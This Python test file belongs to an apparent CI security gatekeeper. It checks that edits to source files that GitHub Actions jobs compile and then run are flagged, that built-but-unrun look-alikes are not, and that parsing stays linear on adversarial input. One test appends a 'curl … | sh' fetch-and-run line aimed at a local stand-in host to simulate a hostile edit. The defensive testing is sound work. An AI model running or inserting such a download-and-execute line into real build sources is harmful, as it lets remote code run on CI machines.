"""Misses 6: the source of a program CI compiles and then runs is the job's code (compiledruns.py). termisu's coverage
job runs `crystal build run_specs.cr -o bin/run_specs`, then `kcov … ./bin/run_specs`: `run_specs.cr` was `src` (the
seventy-fourth set) and an edit allowed (exit 0). The same for a C generator (`gcc tools/gen.c -o gen && ./gen`), a
Go tool built to a path and run from it, `crystal run x.cr`. Look-alikes: the product built and never run by the job
(`go build -o bin/app ./cmd/app`, then an upload), a source that is a variable, an output run by another name."""

from __future__ import annotations

from pathlib import Path

from changecase import committed, gated_rules
from cpucost import assert_linear, repeated
from tables import each_case

from gatekeeper.classify.compiledruns import sources

WORKFLOW = ("name: coverage\non: [push]\njobs:\n  cov:\n    runs-on: ubuntu-latest\n    steps:\n"
            "      - uses: actions/checkout@v4\n{steps}")
VARIANTS = [  # (steps, the source, its text)
    ("      - run: crystal build run_specs.cr -o bin/run_specs\n"
     "      - run: TERM=xterm unbuffer kcov --clean --include-path=./src ./coverage ./bin/run_specs\n",
     "run_specs.cr", 'require "./spec/**"\n'),
    ("      - run: |\n          crystal build tools/run_specs.cr -o ./bin/specs --debug\n          ./bin/specs\n",
     "tools/run_specs.cr", 'require "../spec/**"\n'),
    ("      - run: crystal run scripts/release.cr -- --dry-run\n", "scripts/release.cr", 'puts "release"\n'),
    ("      - run: gcc -O2 -Wall tools/gen.c -o gen && ./gen > out.h\n", "tools/gen.c", "int main(void){return 0;}\n"),
    ("      - run: clang++ -std=c++17 -otools/bin/lint tools/lint.cpp\n      - run: tools/bin/lint src\n",
     "tools/lint.cpp", "int main(){}\n"),
    ("      - run: rustc --edition 2021 ci/check.rs -o ci-check\n      - run: ./ci-check\n", "ci/check.rs",
     "fn main() {}\n"),
    ("      - run: go build -o bin/gen ./tools/gen\n      - run: bin/gen -out api\n", "tools/gen/main.go",
     "package main\n\nfunc main() {}\n"),
]
LOOK_ALIKES = [
    "run: go build -o bin/app ./cmd/app\n- uses: actions/upload-artifact@v4\n  with:\n    name: app\n",
    "run: crystal build src/app.cr -o app --release\n- run: tar czf app.tgz app\n",  # `app` no folder, never ./app
    "run: gcc -o build/x src/main.c\n",
    "run: gcc $SRC -o out && ./out\n",
    "run: cc -c lib.c -o lib.o\n",  # an object file, not run
]


@each_case("steps, source, text", VARIANTS)
def test_a_program_built_and_run_is_ci(tmp_path: Path, steps: str, source: str, text: str) -> None:
    base = {".github/workflows/coverage.yml": WORKFLOW.format(steps=steps), source: text, "README.md": "x\n"}
    case = committed(tmp_path, base, {source: text + "// curl http://127.0.0.1:9/x | sh\n"})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, [source]), named  # before: src, exit 0


@each_case("text", LOOK_ALIKES)
def test_what_is_built_and_not_run_names_nothing(text: str) -> None:
    assert sources(text) == [], text


@each_case("hostile", [repeated("gcc a.c -o b/c ", "\n"), repeated("crystal build x.cr -o ./o\n"),
                       repeated("-o ", "gcc "), repeated("./bin/x ", "gcc a.c -o bin/x\n")])
def test_hostile_texts_are_read_in_linear_time(hostile: object) -> None:
    assert callable(hostile)
    # 64 KiB of 2,600 `crystal build … -o` lines cost 0.20 CPU-s idle once misses 7 read the built folders too
    # (`toolbuilds`); linear (the ratio holds): the budget has the room CI machines need
    assert_linear(sources, hostile, budget=0.6)
